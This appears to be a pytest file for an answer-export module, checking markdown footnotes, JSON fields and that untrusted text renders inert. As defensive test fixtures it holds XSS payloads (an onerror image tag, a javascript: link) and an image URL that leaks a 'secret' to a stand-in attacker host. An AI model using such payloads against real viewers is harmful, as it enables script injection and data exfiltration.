"""Markdown and JSON export: the reviewed expected file, wording kept, untrusted text inert.

`data/export_expected.md` is the scripted conversation of test_history as a
user receives it. It was reviewed by reading it raw and rendered; when the
format changes on purpose, regenerate it, read the diff, and review it again.
"""
from __future__ import annotations

import difflib
import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from core.errors import SourcelightError
from core.events import AnswerSentence, AttributionReady, RetrievedChunk, SupportSpan
from core.export import (UNSUPPORTED_MARK, answer_to_markdown, escape_markdown, export_conversation, to_json,
                         to_markdown)
from core.history import ConversationNotFound, HistoryStore, StoredTurn
from tests.core.test_history import NOTES, attribution, not_a_claim_turn, save_scripted, scripted_turns, span

EXPECTED = Path(__file__).parent / "data" / "export_expected.md"


def _diff(expected: str, actual: str) -> str:
    return "".join(difflib.unified_diff(expected.splitlines(True), actual.splitlines(True), "expected", "actual"))


def _html(markdown: str) -> str:
    """Render like a permissive viewer would: raw HTML allowed, GFM tables and strikethrough on."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def _visible(html: str) -> str:
    import html as html_lib

    return html_lib.unescape(re.sub(r"<[^>]+>", "", html))


# ------------------------------------------------------------ expected file


def test_markdown_export_of_the_scripted_conversation_matches_the_reviewed_file(tmp_path):
    with HistoryStore(tmp_path / "history.sqlite3") as store:
        cid, _ = save_scripted(store)
        actual = export_conversation(store, str(cid), "md")
    expected = EXPECTED.read_text(encoding="utf-8")
    assert actual == expected, _diff(expected, actual)


def test_export_keeps_the_answer_wording():
    for turn in scripted_turns():
        text = answer_to_markdown(turn).split("\n\n*", 1)[0].split("\n\n\u26a0", 1)[0].split("\n\n[^", 1)[0]
        text = re.sub(r"\[\^\d+\]| " + re.escape(UNSUPPORTED_MARK) + r"| \u26a0 \*cites [^*]+\*", "", text)
        assert text.replace("\\<", "<") == turn.answer


def test_copy_answer_with_citations():
    first = scripted_turns()[0]
    assert answer_to_markdown(first) == (
        "Online orders can be refunded within 30 days of purchase [1].[^1] The item must be unused.[^2] Refunds "
        "usually arrive within two days. \u26a0 *unsupported*\n\n"
        "*Numbers in brackets are the model's own references to the passages it was given: \\[1\\] policy.pdf, "
        "page 3.*\n\n"
        "\u26a0 *unsupported*: no retrieved passage supports this sentence.\n\n"
        "[^1]: \u201cRefunds are accepted within 30 days of purchase.\u201d \u2014 policy.pdf, page 3\n\n"
        "[^2]: \u201cItems must be unused and in their original packaging.\u201d \u2014 policy.pdf, page 3\n")


def test_a_sentence_that_claims_nothing_gets_neither_a_footnote_nor_the_unsupported_mark():
    turn = not_a_claim_turn()
    copied = answer_to_markdown(turn)
    # Only the shipping claim is marked; the lead-in (which had a weak span) and the "could not find"
    # sentence are left as the model wrote them.
    assert copied.split("\n\n")[0] == (
        "Here is what the documents say: Gift cards can be exchanged but not refunded.[^1] Shipping is always "
        f"free. {UNSUPPORTED_MARK} I could not find anything about store credit.")
    assert copied.count("\n[^") == 1  # one footnote: the supported claim's
    exported = to_markdown("Gift cards", [turn])
    assert exported.count(UNSUPPORTED_MARK) == 2  # the legend, and the shipping claim
    assert f"credit. {UNSUPPORTED_MARK}" not in exported and f"say: {UNSUPPORTED_MARK}" not in exported


def test_identical_spans_share_one_footnote():
    markdown = to_markdown("Returns", scripted_turns())
    assert markdown.count("[^2]:") == 1 and markdown.count("[^2]") == 3  # turn 1, turn 2, the definition
    assert len(re.findall(r"^\[\^\d+\]: ", markdown, flags=re.M)) == 5


# ------------------------------------------------------------ inert content


def test_document_markdown_and_html_in_a_quote_come_out_inert():
    answer = "The notes say something."
    turn = StoredTurn("What do the notes say?", answer, "completed", chunks=(NOTES,), attributions=(
        attribution(answer, 0, answer, [span(NOTES, NOTES.text.split("\n", 1)[1], 0.8)], 0.8, True),))
    markdown = answer_to_markdown(turn)
    html = _html(markdown)
    for tag in ("<script", "<a ", "<strong", "<em", "<code", "<s>", "<del", "<table", "<b>"):
        assert tag not in html, (tag, html)
    quote = " ".join(NOTES.text.split("\n", 1)[1].split())
    assert f"\u201c{quote}\u201d" in _visible(html)  # shown exactly as written in the document
    assert "notes *draft* <b>.txt" in _visible(html)


def test_escape_markdown_renders_every_special_character_literally():
    nasty = "a\\b `c` *d* _e_ [f](g) <h> &amp; ~~i~~ | j $k$ # l > m ![n](o)\x00\n\n- p"
    html = _html(escape_markdown(nasty))
    assert _visible(html).strip() == " ".join(nasty.replace("\x00", "\ufffd").split())
    assert html.count("<") == 2  # <p> and </p>


def test_untrusted_answer_markup_cannot_run_link_or_load_anything():
    answer = ("Look <img src=x onerror=alert(1)> here. [Click](javascript:alert(1)) now. "
              "![pixel](https://evil.example/p.png?q=secret) gone. [docs](https://example.com) stays. "
              "Use `<b>` literally.\n\n```html\n<div>kept as code</div>\n```\n\n[^1]: injected\n[x]: javascript:y")
    turn = StoredTurn("q", answer, "completed")
    html = _html(answer_to_markdown(turn))
    assert set(re.findall(r"<(\w+)", html)) == {"p", "a", "code", "pre"}  # no img, div, script...
    assert re.findall(r'(?:href|src)="([^"]*)"', html) == ["https://example.com"]
    assert '<a href="https://example.com">docs</a>' in html
    assert "<code>&lt;b&gt;</code>" in html and "&lt;div&gt;kept as code&lt;/div&gt;" in html
    visible = _visible(html)
    assert "<img src=x onerror=alert(1)>" in visible and "[Click](javascript:alert(1))" in visible
    assert "[^1]: injected" in visible


def test_markers_never_land_inside_code():
    answer = "Run `pip install x.` first.\n\n```\nThen this. And that.\n```\n\nDone."
    chunk = RetrievedChunk("c", "/d/howto.md", None, "Install with pip install x.", 0.5)
    sup = [SupportSpan("c", 0, 27, "Install with pip install x.", 0.9)]

    def at(text, end_text):  # a sentence ending inside the code, as a segmenter might cut it
        start = answer.index(text)
        return AttributionReady(AnswerSentence(0, start, answer.index(end_text) + len(end_text),
                                               answer[start:answer.index(end_text) + len(end_text)]),
                                tuple(sup), 0.9, True)

    turn = StoredTurn("q", answer, "completed", chunks=(chunk,),
                      attributions=(at("Run", "x."), at("Then", "this."), at("Done", "Done.")))
    rendered = answer_to_markdown(turn)
    assert rendered.startswith("Run `pip install x.`[^1] first.\n\n```\nThen this. And that.\n```\n[^1]\n\nDone.[^1]")


def test_an_answer_cut_off_inside_code_does_not_turn_the_rest_of_the_export_into_code():
    answer = "Run the installer first.\n\n```bash\n./install.sh --prefix"
    chunk = RetrievedChunk("c", "/d/guide.md", None, "Run the installer first.", 0.9)
    cut = StoredTurn("How do I install it?", answer, "cancelled", chunks=(chunk,), attributions=(
        AttributionReady(AnswerSentence(0, 0, 24, answer[:24]), (SupportSpan("c", 0, 24, answer[:24], 0.9),),
                         0.9, True),
        AttributionReady(AnswerSentence(1, 26, len(answer), answer[26:]), (), 0.1, False)))
    later = StoredTurn("What is the default port?", "The default port is 8080.", "completed")
    html = _html(to_markdown("Install", [cut, later]))
    assert "<code class=\"language-bash\">./install.sh --prefix\n</code></pre>" in html
    assert "<em>Stopped before the answer was complete.</em>" in html
    assert "<h2>2. What is the default port?</h2>" in html and "<p>The default port is 8080.</p>" in html
    assert "unsupported" not in html.split("</pre>")[0].split("<pre>")[-1]  # the mark is after the code


# ----------------------------------------------------------------- JSON


def test_json_export_holds_every_stored_field(tmp_path):
    with HistoryStore(tmp_path / "history.sqlite3") as store:
        cid, saved = save_scripted(store)
        data = json.loads(export_conversation(store, cid, "json"))
    assert (data["format"], data["format_version"], data["id"], data["title"]) == (
        "sourcelight.conversation", 1, cid, "Returns policy")
    assert [t["status"] for t in data["turns"]] == ["completed", "completed", "failed", "cancelled"]
    for exported, turn in zip(data["turns"], saved, strict=True):
        assert exported["question"] == turn.question and exported["answer"] == turn.answer
        assert tuple(RetrievedChunk(**c) for c in exported["chunks"]) == turn.chunks
        rebuilt = tuple(AttributionReady(
            AnswerSentence(**a["sentence"]), tuple(SupportSpan(**s) for s in a["sources"]), a["support"],
            a["supported"], tuple(a["cited"]), a["citation_agrees"], a["kind"]) for a in exported["attributions"])
        assert rebuilt == turn.attributions
    assert data["turns"][2]["error"] == {"code": "backend_unavailable", "type": "BackendUnavailable",
                                         "message": saved[2].error_message}
    assert data["turns"][0]["started_at"] == "2024-05-01T09:30:00+00:00"
    assert json.loads(to_json("T", []))["turns"] == []


def test_json_export_says_which_sentences_are_not_claims():
    (turn,) = json.loads(to_json("Gift cards", [not_a_claim_turn()]))["turns"]
    assert [(a["kind"], a["supported"]) for a in turn["attributions"]] == [
        ("not_a_claim", False), ("claim", True), ("claim", False), ("not_a_claim", False)]


def test_export_of_an_unknown_or_deleted_conversation_says_what_to_do(tmp_path):
    with HistoryStore(tmp_path / "history.sqlite3") as store:
        cid, _ = save_scripted(store)
        with pytest.raises(ConversationNotFound, match="no conversation with id 99") as info:
            export_conversation(store, "99")
        assert isinstance(info.value, SourcelightError) and info.value.code == "conversation_not_found"
        with pytest.raises(ConversationNotFound, match="whole numbers"):
            export_conversation(store, "abc")
        store.delete(cid)
        with pytest.raises(ConversationNotFound, match="in the trash"):
            export_conversation(store, cid)
        store.undo_delete(cid)
        assert export_conversation(store, cid).startswith("# Returns policy\n")
        with pytest.raises(ValueError):
            export_conversation(store, cid, "html")


def test_a_turn_cut_off_at_the_length_limit_says_so():
    turn = replace(scripted_turns()[0], finish_reason="length", attributions=())
    assert "cut off at the length limit" in answer_to_markdown(turn)
